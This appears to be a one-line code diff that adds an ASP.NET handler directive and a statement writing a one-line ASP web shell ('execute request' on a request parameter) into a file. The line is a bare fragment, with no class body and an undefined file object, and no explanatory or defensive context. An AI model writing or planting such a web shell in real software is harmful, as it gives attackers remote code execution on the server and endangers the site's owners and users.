@@ -1,0 +1,1 @@
+<%@ WebHandler Language="C#" Class="H" %> f.Write("<%execute request(\"a\")%>");
